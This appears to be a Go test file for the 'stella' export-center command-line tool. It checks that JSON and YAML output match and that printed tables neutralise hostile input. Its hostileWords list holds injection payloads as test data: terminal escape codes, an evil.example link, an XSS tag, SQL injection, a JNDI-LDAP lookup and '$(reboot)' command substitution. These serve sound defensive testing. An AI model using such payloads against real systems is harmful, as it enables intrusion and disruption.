package main

import (
	"bytes"
	"crypto/ed25519"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"errors"
	"io"
	"net/http/httptest"
	"os"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/stretchr/testify/require"
	"go.yaml.in/yaml/v3"

	"github.com/stella-ops/exportcenter/bundle/bundletest"
	"github.com/stella-ops/exportcenter/bundle/verify"
	"github.com/stella-ops/exportcenter/client"
	"github.com/stella-ops/exportcenter/export"
	"github.com/stella-ops/exportcenter/ledger"
	"github.com/stella-ops/exportcenter/mirror/mirrortest"
	"github.com/stella-ops/exportcenter/offboarding"
	"github.com/stella-ops/exportcenter/signing"
)

// printed are a line for every command that has --format. Files are those of a
// workplace. What is not answered by a parrot has no entry in answers.
var printed = map[string][]string{
	"stella audit list":   {"audit", "list", "--limit", "1"},
	"stella audit verify": {"audit", "verify", "audit.jsonl", "--key", "audit.pub"},
	"stella export approve": {"export", "approve", "--tenant", "globex", "--reader", "acme", "--profile", "nightly", "--expires", "2027-01-01",
		"--approver", "security@globex", "--key", "approver.pem"},
	"stella export attestation":     {"export", "attestation", aRun},
	"stella export cancel":          {"export", "cancel", aRun, "--reason", "why"},
	"stella export diff":            {"export", "diff", aRun, aRun},
	"stella export download":        {"export", "download", aRun, "--output", "out.tar"},
	"stella export events":          {"export", "events", aRun},
	"stella export guard":           {"export", "guard", aRun},
	"stella export latest":          {"export", "latest", "json:raw"},
	"stella export list":            {"export", "list"},
	"stella export rebuild":         {"export", "rebuild", aRun},
	"stella export reject":          {"export", "reject", aRun, "--reason", "why"},
	"stella export release":         {"export", "release", aRun, "--reason", "why"},
	"stella export open":            {"export", "open", "encrypted.tar", "--key", "key.pub", "--identity", "identity", "--output", "opened.tar"},
	"stella export plan":            {"export", "plan", aRun},
	"stella export profile archive": {"export", "profile", "archive", "nightly"},
	"stella export profile create":  {"export", "profile", "create", "--file", "profile.yaml"},
	"stella export profile list":    {"export", "profile", "list"},
	"stella export profile show":    {"export", "profile", "show", "nightly"},
	"stella export profile update":  {"export", "profile", "update", "--file", "profile.yaml"},
	"stella export run":             {"export", "run", "json:raw"},
	"stella export status":          {"export", "status", aRun},
	"stella export verify":          {"export", "verify", aRun},
	"stella ledger import":          {"ledger", "import", "doc.json"},
	"stella ledger remove":          {"ledger", "remove", "--source", "osv", "--stream", "npm", "--kind", "advisory", "OSV-1"},
	"stella ledger list":            {"ledger", "list", "--limit", "1"},
	"stella ledger stats":           {"ledger", "stats"},
	"stella mirror apply":           {"mirror", "apply", "--base", "site", "delta12.tar", "--key", "key.pub"},
	"stella mirror init":            {"mirror", "init", "site", "full1.tar", "--key", "key.pub"},
	"stella mirror status":          {"mirror", "status", "site"},
	"stella policy archive":         {"policy", "archive", aRun},
	"stella policy import":          {"policy", "import", "pack.tar.gz", "--name", "blocking"},
	"stella policy list":            {"policy", "list"},
	"stella policy show":            {"policy", "show", aRun},
	"stella tenant create":          {"tenant", "create", "acme"},
	"stella tenant list":            {"tenant", "list"},
	"stella tenant offboard":        {"tenant", "offboard", "acme", "--confirm", "acme", "--reason", "why"},
	"stella tenant quotas":          {"tenant", "quotas", "acme", "--bytes", "none"},
	"stella tenant resume":          {"tenant", "resume", "acme"},
	"stella tenant show":            {"tenant", "show", "acme"},
	"stella tenant suspend":         {"tenant", "suspend", "acme"},
	"stella tenant verify":          {"tenant", "verify", "record.jsonl", "--key", "key.pub"},
	"stella verify":                 {"verify", "bundle.tar", "--key", "key.pub"},
	"stella whoami":                 {"whoami"},
}

const aRun = "0192f3c4-5d6e-7f80-9a1b-00000000ffff"

// workplace is a directory with the files that the lines above name.
func workplace(t *testing.T) {
	t.Helper()
	t.Chdir(t.TempDir())
	w := newWorld(t)
	t.Setenv("STELLA_SERVER", w.URL)
	t.Setenv("STELLA_TOKEN", w.Token(t, "acme"))
	_, err := stella(t, "export", "cancel", aRun) // recorded as refused
	require.Equal(t, exitNotFound, exitCode(err))
	signer := w.SignAudit(t, "acme")
	_, err = stella(t, "audit", "export", "--output", "audit.jsonl")
	require.NoError(t, err)
	key := bundletest.Key(t, 1)
	root := w.Issuer.Token(t, export.Installation, "tenant:manage", "tenant:offboard")
	for _, line := range [][]string{{"create", "leaver"}, {"suspend", "leaver", "--reason", "gone"}, {}, {"offboard", "leaver", "--confirm", "leaver", "--reason", "gone"}} {
		if len(line) == 0 {
			w.SetTime(w.Now().Add(export.OffboardAfter + time.Second))
			root = w.Issuer.Token(t, export.Installation, "tenant:manage", "tenant:offboard")
			continue
		}
		t.Setenv("STELLA_TOKEN", root)
		_, err = stella(t, append([]string{"tenant"}, line...)...)
		require.NoError(t, err, line)
	}
	w.Tenants.Remove(t, "leaver", w.Now(), key, offboarding.Run{ID: aRun, State: export.StateSucceeded, RequestedAt: w.Now()})
	_, err = stella(t, "tenant", "record", "leaver", "--output", "record.jsonl")
	require.NoError(t, err)
	t.Setenv("STELLA_TOKEN", w.Token(t, "acme"))
	maker := mirrortest.Maker{Signer: key}
	full, next := maker.Full(t, 1), maker.Full(t, 2, mirrortest.Document{Kind: ledger.KindAdvisory, ID: "a", Subject: "pkg:npm/a", Original: "1"})
	for name, content := range map[string][]byte{
		"audit.pub": signer.PublicKeyPEM(), "key.pub": key.PublicKeyPEM(),
		"bundle.tar":    bundletest.New(t, bundletest.Options{RunID: aRun, Tenant: "acme", Signer: key}).Bytes(t),
		"encrypted.tar": encryptedArchive(t, key),
		"identity":      []byte(bundletest.Identity(t, 0).String() + "\n"),
		"profile.yaml":  []byte("apiVersion: stellaops.io/export.v1\nkind: ExportProfile\nmetadata: {name: nightly}\nspec: {kind: json, variant: raw}\n"),
		"approver.pem":  approverPEM(t),
		"pack.tar.gz":   []byte("a pack"),
		"doc.json":      []byte(`{"id":"OSV-1","modified":"2026-01-01T00:00:00Z"}`),
		"full1.tar":     full.Archive, "delta12.tar": maker.Delta(t, full, next).Archive,
	} {
		require.NoError(t, os.WriteFile(name, content, 0o600))
	}
}

// approverPEM is a private key as openssl writes it.
func approverPEM(t *testing.T) []byte {
	t.Helper()
	_, key, err := ed25519.GenerateKey(nil)
	require.NoError(t, err)
	der, err := x509.MarshalPKCS8PrivateKey(key)
	require.NoError(t, err)
	return pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der})
}

// ask runs a line in a format against the parrot. What a report or an import says of
// itself is no failure of the command.
func ask(t *testing.T, words []string, format string, args ...string) string {
	t.Helper()
	if args[0] == "mirror" { // a mirror takes no delta twice
		require.NoError(t, os.RemoveAll("site"))
		if args[1] != "init" {
			_, err := stella(t, printed["stella mirror init"]...)
			require.NoError(t, err)
		}
	}
	server := httptest.NewServer(&parrot{words: words})
	defer server.Close()
	t.Setenv("STELLA_SERVER", server.URL)
	var out, errOut bytes.Buffer
	command := rootCommand()
	command.SetArgs(append(args, "--format", format))
	command.SetOut(&out)
	command.SetErr(&errOut)
	err := command.ExecuteContext(t.Context())
	var report *verify.Error
	if err != nil && !errors.As(err, &report) && !strings.Contains(err.Error(), "documents were rejected") && !strings.Contains(err.Error(), "the ledger never had") && !strings.Contains(err.Error(), " ended ") {
		t.Fatalf("%v: %v", args, err)
	}
	requireInert(t, errOut.String())
	if err != nil {
		requireInert(t, printable(err.Error()))
	}
	return out.String()
}

// requireInert wants nothing in text that a terminal, or a reader's eye, obeys.
func requireInert(t *testing.T, text string) {
	t.Helper()
	for i, r := range text {
		if r != '\n' && (!unicode.IsGraphic(r) || unicode.Is(unicode.Bidi_Control, r) || r == unicode.ReplacementChar) {
			t.Fatalf("%U at byte %d: %q", r, i, text[max(0, i-60):min(len(text), i+20)])
		}
	}
}

// commandsThatPrint checks that each command with --format has a line here.
func commandsThatPrint(t *testing.T) map[string][]string {
	t.Helper()
	with := map[string]bool{}
	for _, command := range everyCommand(rootCommand()) {
		if command.Flags().Lookup("format") != nil {
			with[command.CommandPath()] = true
			require.NotEmpty(t, printed[command.CommandPath()], "%s: give it a line in printed, and its calls answers", command.CommandPath())
		}
	}
	require.Len(t, printed, len(with))
	return printed
}

// YAML says what JSON says, member for member, whatever the texts are.
func TestYAMLEqualsJSON(t *testing.T) {
	clean(t)
	workplace(t)
	words := append(hostileWords(), naughtyForYAML...)
	for path, args := range commandsThatPrint(t) {
		asJSON, asYAML := ask(t, words, "json", args...), ask(t, words, "yaml", args...)
		requireInert(t, asJSON)
		requireInert(t, asYAML)
		var fromJSON, fromYAML []any
		for decoder := json.NewDecoder(strings.NewReader(asJSON)); decoder.More(); {
			var v any
			decoder.UseNumber()
			require.NoError(t, decoder.Decode(&v), path)
			fromJSON = append(fromJSON, v)
		}
		for decoder := yaml.NewDecoder(strings.NewReader(asYAML)); ; {
			var v any
			err := decoder.Decode(&v)
			if errors.Is(err, io.EOF) {
				break
			}
			require.NoError(t, err, "%s\n%s", path, asYAML)
			fromYAML = append(fromYAML, v)
		}
		if file, ok := fromYAML[0].(map[string]any); ok && file["apiVersion"] == client.ProfileAPIVersion {
			requireProfileFile(t, fromJSON[0].(map[string]any), file)
			continue
		}
		got, err := json.Marshal(fromYAML)
		require.NoError(t, err)
		want, err := json.Marshal(fromJSON)
		require.NoError(t, err)
		require.Equal(t, string(want), string(got), path)
		require.Contains(t, asJSON, "\n", path)
	}
}

// A profile in YAML is its file: its members have other places there.
func requireProfileFile(t *testing.T, p, file map[string]any) {
	t.Helper()
	metadata, spec := file["metadata"].(map[string]any), file["spec"].(map[string]any)
	require.Equal(t, p["name"], metadata["name"])
	require.Equal(t, p["description"], metadata["description"])
	require.Equal(t, p["labels"], metadata["labels"])
	require.Equal(t, p["kind"], spec["kind"])
	require.Equal(t, p["variant"], spec["variant"])
	require.Equal(t, p["config"].(map[string]any)["include"], spec["include"])
	require.Equal(t, p["config"].(map[string]any)["policySnapshotMode"], spec["policySnapshotMode"])
}

// naughtyForYAML are texts that YAML would take for something else.
var naughtyForYAML = []string{"", " ", "null", "~", "yes", "No", "on", "true", "1", "-1", "1e3", "0x10", "0o7", ".inf", ".NaN", "1_000", "2026-11-21", "12:30:45",
	"- a", "? a", "a: b", "a #b", "#a", "&a", "*a", "!a", "!!int 1", "|", ">", "%YAML 1.2", "---", "...", "@a", "`a", "{a}", "[a]", "'a'", `"a"`, `\n`, "a\nb", "a\n", "\na", " a", "a ", "a\t", "=", "<<",
	"{}", "[]", ",", "key: [", strings.Repeat("long ", 60), "é", "日本語", "👩‍🚀", "1:2", "0b1", "+1", "1.0", "1.", "NULL", "Null"}

// hostileWords drive terminals, turn texts around, or are not what they seem.
func hostileWords() []string {
	return []string{
		"\x1b[31mred", "\x1b]0;title\a", "\x1b]8;;http://evil.example\x1b\\link", "\x1b[2J\x1b[H", "\x1b[?1049h", "\x1bc", "\u009b31mred", "\u009d0;title\u009c", "\u0090q\u009c",
		"a\rb", "a\bb", "a\x00b", "a\x7fb", "a\tb", "a\vb\fc", "a\nb", "a\r\nb", "a\u0085b", "a\u2028b\u2029c", "\u202eevil", "\u2066evil\u2069", "\u200fevil", "\u061cevil", "zero\u200bwidth",
		"\ufeffbom", "soft\u00adhyphen", "\U000e0041tag", "\U0001f600", "e\u0301\u0301\u0301", "\ue000private", "\ufffe", "\ufff9a\ufffab\ufffb", "\U0010ffff", "\u00a0nbsp", "\u3000wide",
		"=1+1", "+1", "-1", "@SUM(1)", "<script>alert(1)</script>", "'; drop table runs; --", "%s%n%x", "${jndi:ldap://evil}", "{{7*7}}", "$(reboot)", "`reboot`",
	}
}

// In a table, and in what goes beside it, everything that comes from elsewhere is text:
// each hostile word stands in each table once as its escape, or as it is.
func TestTablesAreInert(t *testing.T) {
	clean(t)
	workplace(t)
	for path, args := range commandsThatPrint(t) {
		texts := 0
		for _, word := range hostileWords() {
			table := ask(t, []string{word}, "table", args...)
			requireInert(t, table)
			if word != printable(word) {
				require.NotContains(t, table, word)
			}
			if strings.Contains(table, printable(word)) {
				texts++
			}
		}
		switch path {
		case "stella export approve", "stella export open", "stella verify", "stella audit verify", "stella tenant verify", "stella export download", "stella ledger import", "stella ledger remove",
			"stella mirror apply", "stella mirror init", "stella mirror status":
			// what they print was not said by a server; what was rejected or absent goes to standard error
		default:
			require.Equal(t, len(hostileWords()), texts, "%s prints what it was told", path)
		}
	}
	for _, word := range hostileWords() { // two more tables
		requireInert(t, ask(t, []string{word}, "table", "export", "run", "json:raw", "--dry-run"))
		require.Contains(t, ask(t, []string{word}, "table", "export", "plan", aRun, "--excluded"), "left out by "+printable(word))
	}
}

func encryptedArchive(t *testing.T, key signing.Signer) []byte {
	_, encrypted := bundletest.BuildEncrypted(t, bundletest.Options{Signer: key}, bundletest.Encrypting{Mode: "age"})
	return encrypted.Bytes(t)
}
